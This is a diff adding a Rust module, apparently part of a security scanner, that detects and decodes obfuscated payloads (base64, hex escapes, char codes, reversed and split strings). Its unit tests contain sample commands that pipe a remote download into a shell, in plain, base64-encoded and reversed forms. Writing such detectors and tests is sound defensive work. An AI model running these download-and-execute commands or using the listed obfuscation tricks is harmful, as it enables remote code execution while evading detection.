@@ -1,0 +1,309 @@
+//! Finds encoded payloads in a line and decodes them (base64, hex and `\x`
+//! escapes, char-code arrays, reversed strings, split-and-joined strings),
+//! so the caller can scan the decoded text again. Bounded by the caller's
+//! budget; returns only decodings that look like text.
+
+use std::sync::LazyLock;
+
+use base64::Engine as _;
+use regex::bytes::Regex;
+
+/// How a payload was encoded.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Encoding {
+    Base64,
+    Hex,
+    CharCodes,
+    Reversed,
+    Concatenated,
+}
+
+impl Encoding {
+    pub fn name(self) -> &'static str {
+        match self {
+            Encoding::Base64 => "base64",
+            Encoding::Hex => "hex",
+            Encoding::CharCodes => "char codes",
+            Encoding::Reversed => "reversed string",
+            Encoding::Concatenated => "string concatenation",
+        }
+    }
+}
+
+/// Shortest base64 run considered (ClawHub uses 40 as well).
+const MIN_BASE64: usize = 40;
+/// Longest single run decoded (bigger blobs are data: images, fonts).
+const MAX_RUN: usize = 256 * 1024;
+/// Most candidates decoded from one line.
+const MAX_PER_LINE: usize = 8;
+
+static HEX_ESCAPES: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:\\x[0-9A-Fa-f]{2}){8,}").expect("hex escapes"));
+static UNICODE_ESCAPES: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:\\u00[0-9A-Fa-f]{2}){8,}").expect("unicode escapes"));
+static HEX_RUN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(?:[0-9A-Fa-f]{2}){16,}\b").expect("hex run"));
+static HEX_CONTEXT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)fromhex|unhexlify|xxd\s+-r|['\x22]hex['\x22]|hex2bin|decode\(\s*['\x22]hex")
+        .expect("hex ctx")
+});
+static CHAR_CODES: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:\d{2,3}\s*,\s*){5,}\d{2,3}").expect("char codes"));
+static CHAR_CONTEXT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)fromcharcode|\bchr\s*\(|\bbytes\s*\(\s*\[|bytearray\s*\(|\[char\[\]\]|\bmap\s*\(\s*chr").expect("char ctx")
+});
+static REVERSED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"["']([^"'\n]{8,})["']\s*(?:\[::-1\]|\.split\(\s*["']["']\s*\)\s*\.reverse\(\))|\becho\s+["']?([^|"'\n]{8,}?)["']?\s*\|\s*rev\b"#,
+    )
+    .expect("reversed")
+});
+static CONCAT_JOIN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"["']\s*(?:\+|\.\.|\.)\s*["']|["']\s*,\s*["'](?:[^"'\n]{0,6})["']\s*\]\s*\.join"#)
+        .expect("concat")
+});
+
+/// One decoded payload.
+pub(crate) struct Decoded {
+    pub encoding: Encoding,
+    pub text: Vec<u8>,
+}
+
+/// Decodes what looks encoded in `line`, spending at most `budget` bytes.
+pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
+    let mut out = Vec::new();
+    let mut push = |encoding, text: Vec<u8>, out: &mut Vec<Decoded>| {
+        if out.len() < MAX_PER_LINE && text.len() <= *budget && looks_like_text(&text) {
+            *budget -= text.len();
+            out.push(Decoded { encoding, text });
+        }
+    };
+    for (start, end) in base64_runs(line) {
+        let run = &line[start..end];
+        // data: URIs hold images and fonts, not code.
+        let before = &line[start.saturating_sub(40)..start];
+        if memchr::memmem::find(before, b";base64,").is_some()
+            && memchr::memmem::find(before, b"data:").is_some()
+        {
+            continue;
+        }
+        if let Some(text) = decode_base64(run) {
+            let text = strip_utf16(text);
+            push(Encoding::Base64, text, &mut out);
+        }
+    }
+    if memchr::memmem::find(line, b"\\x").is_some() {
+        for m in HEX_ESCAPES.find_iter(line).take(MAX_PER_LINE) {
+            let text: Vec<u8> = m
+                .as_bytes()
+                .chunks(4)
+                .filter_map(|c| hex_byte(&c[2..4]))
+                .collect();
+            push(Encoding::Hex, text, &mut out);
+        }
+    }
+    if memchr::memmem::find(line, b"\\u00").is_some() {
+        for m in UNICODE_ESCAPES.find_iter(line).take(MAX_PER_LINE) {
+            let text: Vec<u8> = m
+                .as_bytes()
+                .chunks(6)
+                .filter_map(|c| hex_byte(&c[4..6]))
+                .collect();
+            push(Encoding::Hex, text, &mut out);
+        }
+    }
+    if HEX_CONTEXT.is_match(line) {
+        for m in HEX_RUN.find_iter(line).take(MAX_PER_LINE) {
+            let text: Vec<u8> = m.as_bytes().chunks(2).filter_map(hex_byte).collect();
+            push(Encoding::Hex, text, &mut out);
+        }
+    }
+    if CHAR_CONTEXT.is_match(line) {
+        for m in CHAR_CODES.find_iter(line).take(MAX_PER_LINE) {
+            let text: Option<Vec<u8>> = m
+                .as_bytes()
+                .split(|&b| b == b',')
+                .map(|n| {
+                    std::str::from_utf8(n.trim_ascii())
+                        .ok()
+                        .and_then(|s| s.parse::<u32>().ok())
+                        .filter(|v| (9..=126).contains(v))
+                        .map(|v| v as u8)
+                })
+                .collect();
+            if let Some(text) = text {
+                push(Encoding::CharCodes, text, &mut out);
+            }
+        }
+    }
+    if memchr::memmem::find(line, b"[::-1]").is_some()
+        || memchr::memmem::find(line, b"reverse()").is_some()
+        || memchr::memmem::find(line, b"rev").is_some()
+    {
+        for c in REVERSED.captures_iter(line).take(MAX_PER_LINE) {
+            if let Some(m) = c.get(1).or_else(|| c.get(2)) {
+                let mut text = m.as_bytes().to_vec();
+                text.reverse();
+                push(Encoding::Reversed, text, &mut out);
+            }
+        }
+    }
+    if CONCAT_JOIN.find_iter(line).take(2).count() >= 2 {
+        let joined = CONCAT_JOIN.replace_all(line, &b""[..]).into_owned();
+        // Also drop the empty-quote splits shells allow: c''u""rl.
+        let joined: Vec<u8> = strip_empty_quotes(&joined);
+        push(Encoding::Concatenated, joined, &mut out);
+    }
+    out
+}
+
+fn strip_empty_quotes(b: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        if i + 1 < b.len() && (b[i] == b'\'' || b[i] == b'"') && b[i + 1] == b[i] {
+            i += 2;
+            continue;
+        }
+        out.push(b[i]);
+        i += 1;
+    }
+    out
+}
+
+fn is_b64(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')
+}
+
+/// Runs of base64 alphabet at least `MIN_BASE64` long, with padding.
+fn base64_runs(line: &[u8]) -> Vec<(usize, usize)> {
+    let mut runs = Vec::new();
+    let mut i = 0;
+    while i < line.len() && runs.len() < MAX_PER_LINE {
+        if !is_b64(line[i]) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        while i < line.len() && is_b64(line[i]) {
+            i += 1;
+        }
+        let mut end = i;
+        while end < line.len() && line[end] == b'=' && end - i < 2 {
+            end += 1;
+        }
+        let len = i - start;
+        if (MIN_BASE64..=MAX_RUN).contains(&len) {
+            let run = &line[start..i];
+            // Identifiers, paths and hex hashes are not base64 payloads: a
+            // real one mixes cases and digits.
+            let upper = run.iter().filter(|c| c.is_ascii_uppercase()).count();
+            let lower = run.iter().filter(|c| c.is_ascii_lowercase()).count();
+            let digit = run.iter().filter(|c| c.is_ascii_digit()).count();
+            if upper > 0 && lower > 0 && digit > 0 && !run.contains(&b'/')
+                || upper * 8 > len && lower * 8 > len
+            {
+                runs.push((start, end));
+            }
+        }
+        i = end.max(i);
+    }
+    runs
+}
+
+fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
+    let trimmed: Vec<u8> = run.iter().copied().filter(|&c| c != b'=').collect();
+    let url_safe = trimmed.iter().any(|&c| c == b'-' || c == b'_');
+    let engine = if url_safe {
+        &base64::engine::general_purpose::URL_SAFE_NO_PAD
+    } else {
+        &base64::engine::general_purpose::STANDARD_NO_PAD
+    };
+    // A run whose length is 1 mod 4 cannot be base64: drop the last char.
+    let usable = if trimmed.len() % 4 == 1 {
+        &trimmed[..trimmed.len() - 1]
+    } else {
+        &trimmed[..]
+    };
+    engine.decode(usable).ok()
+}
+
+/// PowerShell `-EncodedCommand` is UTF-16LE.
+fn strip_utf16(text: Vec<u8>) -> Vec<u8> {
+    if text.len() >= 8 && text.iter().skip(1).step_by(2).all(|&b| b == 0) {
+        text.into_iter().step_by(2).collect()
+    } else {
+        text
+    }
+}
+
+fn hex_byte(pair: &[u8]) -> Option<u8> {
+    let s = std::str::from_utf8(pair).ok()?;
+    u8::from_str_radix(s, 16).ok()
+}
+
+/// Mostly printable text (decoded images, keys and hashes are not).
+pub(crate) fn looks_like_text(b: &[u8]) -> bool {
+    if b.len() < 8 {
+        return false;
+    }
+    let Ok(s) = std::str::from_utf8(b) else {
+        return false;
+    };
+    let printable = s
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
+        .count();
+    let total = s.chars().count();
+    let spaces_or_punct = s.bytes().filter(|c| b" /.:-|;=(\"'".contains(c)).count();
+    printable * 100 >= total * 95 && spaces_or_punct > 0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn texts(line: &str) -> Vec<String> {
+        let mut budget = 1 << 20;
+        decode_line(line.as_bytes(), &mut budget)
+            .into_iter()
+            .map(|d| String::from_utf8(d.text).unwrap())
+            .collect()
+    }
+
+    #[test]
+    fn decodes_each_encoding() {
+        // "curl -fsSL http://192.0.2.7/x | bash"
+        let b64 = base64::engine::general_purpose::STANDARD
+            .encode("curl -fsSL http://192.0.2.7/x | bash");
+        assert_eq!(
+            texts(&format!("echo '{b64}' | base64 -d | sh")),
+            ["curl -fsSL http://192.0.2.7/x | bash"]
+        );
+        assert_eq!(
+            texts(r"x = '\x63\x75\x72\x6c\x20\x2d\x73\x20\x68'"),
+            ["curl -s h"]
+        );
+        assert_eq!(
+            texts("String.fromCharCode(99,117,114,108,32,104,116,116,112)"),
+            ["curl http"]
+        );
+        assert_eq!(
+            texts("os.system('hs | moc.elpmaxe//:ptth lruc'[::-1])"),
+            ["curl http://example.com | sh"]
+        );
+        let joined = texts(r#"c = "cu" + "rl ht" + "tp://x | s" + "h""#);
+        assert!(joined[0].contains("curl http://x | sh"), "{joined:?}");
+    }
+
+    #[test]
+    fn images_and_hashes_are_not_decoded() {
+        let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
+        assert!(texts(&format!("![x](data:image/png;base64,{png})")).is_empty());
+        assert!(texts(&format!("blob: {png}")).is_empty());
+        assert!(
+            texts("sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")
+                .is_empty()
+        );
+    }
+}
